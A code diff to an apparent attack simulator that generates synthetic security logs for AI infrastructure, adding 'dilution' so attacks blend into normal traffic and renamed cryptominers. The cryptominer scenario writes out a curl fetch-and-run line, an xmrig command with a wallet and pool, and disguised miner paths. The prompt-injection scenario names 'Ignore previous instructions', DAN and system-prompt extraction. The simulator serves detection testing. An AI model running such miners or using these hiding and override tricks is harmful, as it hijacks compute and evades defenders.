@@ -22,6 +22,7 @@ from typing import Any, TypeVar
 
 from schemas import entities as ent
 from streams.simulator import formats as F
+from streams.simulator.variation import Variation
 from streams.simulator.world import (
     ACCOUNT_ID,
     ARTIFACT_BUCKET,
@@ -76,7 +77,12 @@ class Ctx:
     total: int  # records in the whole run
     rate: float  # records per second, all sources
     used: set[str] = field(default_factory=set)
-    vary: bool = False  # other organisations: attacks may be diluted in a busy key's usual traffic
+    vary: bool = False  # other organisations: attacks may be diluted, miners renamed (see ``variation``)
+    variation: Variation = field(default_factory=Variation.familiar)
+
+    def diluted(self) -> bool:
+        """Whether this attack hides in its target's usual traffic (never in the familiar world: no draw)."""
+        return self.variation.dilution > 0 and self.rng.random() < self.variation.dilution
 
     # --- rates and time
     def key_rate(self, key: ApiKey) -> float:
@@ -91,7 +97,7 @@ class Ctx:
 
     def burst(self, per_s: float, lo: int, cap: float = 0.02, prefer_s: float = 0.2) -> list[int]:
         """``n`` times at ``per_s`` per second (at least ``lo`` records, at most ``cap`` of all)."""
-        per_s = max(per_s, 0.05)
+        per_s = max(per_s * self.variation.intensity, 0.05)
         span_s = min(prefer_s * self.duration_ms / 1000, 300.0)
         n = max(lo, min(max(lo, int(cap * self.total)), round(per_s * span_s)))
         length = min(n / per_s * 1000, 0.35 * self.duration_ms)
@@ -103,8 +109,8 @@ class Ctx:
 
     def sequence(self, gaps_s: list[float]) -> list[int]:
         """Times of a chain of actions ``gaps_s`` seconds apart (squeezed to fit short runs)."""
-        total = sum(gaps_s) * 1000
-        scale = min(1.0, 0.5 * self.duration_ms / total) if total else 1.0
+        total, spread = sum(gaps_s) * 1000, self.variation.spread
+        scale = spread * min(1.0, 0.5 * self.duration_ms / (total * spread)) if total else 1.0
         t = self.window(total * scale)
         out = []
         for gap in gaps_s:
@@ -113,17 +119,29 @@ class Ctx:
         return out
 
     # --- entities
-    def take(self, candidates: list[T], ident: Callable[[T], str]) -> T:
-        """A candidate no other scenario took (any one if all were)."""
-        free = [c for c in candidates if ident(c) not in self.used]
+    def take(self, candidates: list[T], ident: Callable[[T], str], who: Callable[[T], str] | None = None) -> T:
+        """A candidate no other scenario took, nor its person (``who``: the identity behind it; any one
+        if all were taken)."""
+        who = who or ident
+        free = [c for c in candidates if ident(c) not in self.used and not self.person_used(who(c))]
         choice = self.rng.choice(free or candidates)
         self.used.add(ident(choice))
+        self.use_person(who(choice))
         return choice
+
+    def person_used(self, identity: str) -> bool:
+        name = person_of(identity)
+        return bool(name) and f"person:{name}" in self.used
+
+    def use_person(self, identity: str) -> None:
+        """One person is in one scenario only: their cluster user, AWS session and keys are one story."""
+        if name := person_of(identity):
+            self.used.add(f"person:{name}")
 
     def take_key(self, *, top: float = 0.3, chat: bool = True) -> ApiKey:
         keys = [k for k in self.world.keys if not chat or k.endpoint == "/v1/chat/completions"]
         keys.sort(key=lambda k: -k.weight)
-        return self.take(keys[: max(3, int(len(keys) * top))], lambda k: k.key_id)
+        return self.take(keys[: max(3, int(len(keys) * top))], lambda k: k.key_id, lambda k: k.user)
 
     def take_workload(self, apps: tuple[str, ...], namespaces: tuple[str, ...] = ()) -> Workload:
         pool = [w for w in self.world.by_app(*apps) if not namespaces or w.namespace in namespaces]
@@ -132,6 +150,15 @@ class Ctx:
     def take_human(self, groups: tuple[str, ...]) -> AwsPrincipal:
         pool = [p for p in self.world.aws if p.human and p.name.split("/")[0] in groups]
         return self.take(pool, lambda p: p.arn)
+
+
+def person_of(identity: str) -> str:
+    """The person an identity names (an e-mail-form user, an SSO session), '' for services and roles."""
+    if "@" in identity:
+        return identity.partition("@")[0].rsplit("/", 1)[-1]
+    if "/AWSReservedSSO_" in identity:
+        return identity.rsplit("/", 1)[-1]
+    return ""
 
 
 def workload_entities(w: Workload) -> list[str]:
@@ -180,10 +207,11 @@ _EXTRACTION = (
 
 def model_extraction(ctx: Ctx) -> Plan:
     rng = ctx.rng
-    diluted = ctx.vary and rng.random() < 0.5  # a busy key keeps its traffic; the sweep runs at about its rate
+    diluted = ctx.diluted()  # a busy key keeps its traffic; the sweep runs at about its rate
     k = ctx.take_key(top=0.1 if diluted else 0.25)
     mult = rng.uniform(0.5, 1.5) if diluted else rng.uniform(20, 50)
-    times = ctx.burst(ctx.key_rate(k) * mult, lo=40, cap=0.02)
+    # a sweep that extracts anything takes many queries: a slow one is longer, not smaller
+    times = ctx.burst(ctx.key_rate(k) * mult, lo=120 if diluted else 40, cap=0.02)
     tpl = rng.choice(_EXTRACTION)
     first = rng.randrange(0, 5000)
     steps: list[Step] = []
@@ -287,14 +315,16 @@ def prompt_injection(ctx: Ctx) -> Plan:
     rng, world = ctx.rng, ctx.world
     by_user: dict[str, list[ApiKey]] = {}
     for k in world.keys:
-        if k.endpoint == "/v1/chat/completions" and k.key_id not in ctx.used:
+        if k.endpoint == "/v1/chat/completions" and k.key_id not in ctx.used and not ctx.person_used(k.user):
             by_user.setdefault(k.user, []).append(k)
     multi = sorted((u for u, ks in by_user.items() if len(ks) >= 2), key=lambda u: (u.startswith("svc-"), u))
     user = rng.choice(multi[:10]) if multi else rng.choice(sorted(by_user))
     keys = rng.sample(by_user[user], min(3, len(by_user[user])))
     ctx.used.update(k.key_id for k in keys)
+    ctx.use_person(user)
     normal = sum(ctx.key_rate(k) for k in keys)
-    times = ctx.burst(normal * rng.uniform(3, 6), lo=20, cap=0.01)
+    diluted = ctx.diluted()  # the campaign at about the user's usual rate, their usual prompts around it
+    times = ctx.burst(normal * (rng.uniform(0.7, 1.5) if diluted else rng.uniform(3, 6)), lo=20, cap=0.01)
     steps: list[Step] = []
     ids: list[str] = []
     used: set[str] = set()
@@ -318,7 +348,8 @@ def prompt_injection(ctx: Ctx) -> Plan:
     return Plan(
         "prompt_injection",
         f"{user} ran a jailbreak / prompt-injection campaign of {len(times)} prompts through "
-        f"{len(used)} API key(s) ('Ignore previous instructions', DAN, system-prompt extraction)",
+        f"{len(used)} API key(s) ('Ignore previous instructions', DAN, system-prompt extraction)"
+        + (", diluted in the user's usual traffic" if diluted else ""),
         ["AML.T0051.000", "AML.T0054", "AML.T0056"],
         [],
         uniq(ids),
@@ -408,10 +439,12 @@ def exposed_inference(ctx: Ctx) -> Plan:
         if "acme:ml-engineers" in u.groups
         and u.username not in ctx.used
         and aws_of[u.username.split("@")[0]].arn not in ctx.used
+        and not ctx.person_used(u.username)
     ]
     user: K8sUser = rng.choice(engineers or people)
     aws = aws_of[user.username.split("@")[0]]
     ctx.used.update((user.username, aws.arn))
+    ctx.use_person(user.username)
     name = f"{target.deployment}-public"
     lb = F.k8s_service(name, ns, {"app": target.deployment}, "LoadBalancer", port)
     other = rng.choice(
@@ -592,7 +625,7 @@ def exposed_inference(ctx: Ctx) -> Plan:
 
 def data_poisoning(ctx: Ctx) -> Plan:
     rng, world = ctx.rng, ctx.world
-    insider = rng.random() < 0.5
+    insider = rng.random() < 0.5 or world.principal("web-assets-irsa").arn in ctx.used  # one outsider per run
     if insider:
         p = ctx.take_human(("Developer",))
         src, ua = p.source_ip, p.user_agent
@@ -953,6 +986,7 @@ _POOLS = (
     ("gulf.moneroocean.stream", "203.0.113.201", 5555),
 )
 _MINER = "/tmp/.X11-unix/xmrig"  # noqa: S108 - the path the miner hides at, not a file we write
+_HIDDEN_MINERS = ("/dev/shm/.x/kswapd0", "/var/tmp/.cache/kworker", "/tmp/.ICE-unix/systemd-journal")  # noqa: S108
 _WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
 
 
@@ -961,15 +995,19 @@ def cryptominer(ctx: Ctx) -> Plan:
     w = ctx.take_workload(("jupyter", "ray-worker", "ollama", "llama-cpp", "vllm"), ("ml-staging",))
     pools = rng.sample(_POOLS, rng.choice((1, 2)))
     host, _, port = pools[0]
-    miner = F.proc(
-        "xmrig",
-        f"{_MINER} -o stratum+tcp://{host}:{port} -u {_WALLET} -p {w.node} --cuda --donate-level 1 -B",
-        "sh",
-        _MINER,
-        w.process[3],
-    )
+    # other organisations: half the miners hide their name and the stratum URL (flags and Falco's
+    # drop-and-execute rule still show)
+    hidden = ctx.vary and rng.random() < 0.5
+    path = rng.choice(_HIDDEN_MINERS) if hidden else _MINER
+    if hidden:
+        cmdline = f"{path} -o {host}:{port} -u {_WALLET} -p x -a rx/0 --donate-level 1 --cuda -B"
+        first_rule = "Drop and execute new binary in container"
+    else:
+        cmdline = f"{_MINER} -o stratum+tcp://{host}:{port} -u {_WALLET} -p {w.node} --cuda --donate-level 1 -B"
+        first_rule = "Detect crypto miners using the Stratum protocol"
+    miner = F.proc(path.rsplit("/", 1)[-1], cmdline, "sh", path, w.process[3])
     fetch = F.proc(
-        "curl", f"curl -fsSL -o {_MINER} https://{pools[0][1]}/x", "sh", "/usr/bin/curl", w.process[3]
+        "curl", f"curl -fsSL -o {path} https://{pools[0][1]}/x", "sh", "/usr/bin/curl", w.process[3]
     )
     reconnects = rng.randint(2, 5)
     gaps = [rng.uniform(1, 3), rng.uniform(1, 4), 0.02]
@@ -982,13 +1020,7 @@ def cryptominer(ctx: Ctx) -> Plan:
         (
             times[2],
             "falco",
-            partial(
-                w_falco,
-                w=w,
-                rule="Detect crypto miners using the Stratum protocol",
-                process=miner,
-                evt_type="execve",
-            ),
+            partial(w_falco, w=w, rule=first_rule, process=miner, evt_type="execve"),
         ),
     ]
     i = 3
@@ -1028,7 +1060,8 @@ def cryptominer(ctx: Ctx) -> Plan:
     used = [p for n, p in enumerate(pools) if n < reconnects]
     return Plan(
         "cryptominer",
-        f"xmrig on GPU node {w.node} in {w.namespace}/{w.pod} mining to "
+        f"{'a renamed miner (' + path + ', no stratum URL)' if hidden else 'xmrig'} on GPU node {w.node} in "
+        f"{w.namespace}/{w.pod} mining to "
         f"{', '.join(f'{h}:{p}' for h, _, p in used)}",
         [],
         ["T1496"],
@@ -1054,7 +1087,8 @@ def stolen_api_key(ctx: Ctx) -> Plan:
     k = ctx.take_key(top=0.3)
     ip = doc_ip(rng)
     ua = rng.choice(_STOLEN_UAS)
-    mult = rng.uniform(8, 15)
+    diluted = ctx.diluted()  # the thief stays near the key's usual volume; only where it comes from differs
+    mult = rng.uniform(1, 3) if diluted else rng.uniform(8, 15)
     times = ctx.burst(ctx.key_rate(k) * mult, lo=30, cap=0.015)
     steps: list[Step] = []
     for t in times:
@@ -1072,7 +1106,8 @@ def stolen_api_key(ctx: Ctx) -> Plan:
     return Plan(
         "stolen_api_key",
         f"API key {k.key_id} of {k.user}, normally used from {k.client_ip} by {k.user_agent!r}, "
-        f"was used from {ip} by {ua!r} at ~{mult:.0f}x its normal volume",
+        f"was used from {ip} by {ua!r} at ~{mult:.0f}x its normal volume"
+        + (", diluted in the key's usual traffic" if diluted else ""),
         ["AML.T0012"],
         ["T1078", "T1552"],
         uniq(key_entities(k, ip)),
@@ -1225,7 +1260,7 @@ _FILLER = (
 def cost_harvesting(ctx: Ctx) -> Plan:
     rng = ctx.rng
     # diluted: a busy key keeps its traffic and adds long completions under every per-request guard
-    diluted = ctx.vary and rng.random() < 0.5
+    diluted = ctx.diluted()
     k = ctx.take_key(top=0.1 if diluted else 0.5)
     mult = rng.uniform(0.3, 1.0) if diluted else rng.uniform(2, 5)
     times = ctx.burst(ctx.key_rate(k) * mult, lo=20, cap=0.01)
@@ -1313,6 +1348,14 @@ def vulnerable_model_server(ctx: Ctx) -> Plan:
 def _fixed(_rng: random.Random, _t: int, record: Record) -> Record:
     """A record made at planning time (a scanner report's part: its time is the scan's)."""
     return copy.deepcopy(record)
+
+
+def falco_names() -> dict[str, str]:
+    """IP -> host name as Falco's DNS cache would name it (``fd.sip.name``): public AI and service
+    endpoints, and the mining pools."""
+    names = {ip: host for host, ips in EXTERNAL_HOSTS.items() for ip in ips}
+    names.update((ip, host) for host, ip, _ in _POOLS)
+    return names
 
 
 SCENARIOS: dict[str, Callable[[Ctx], Plan]] = {
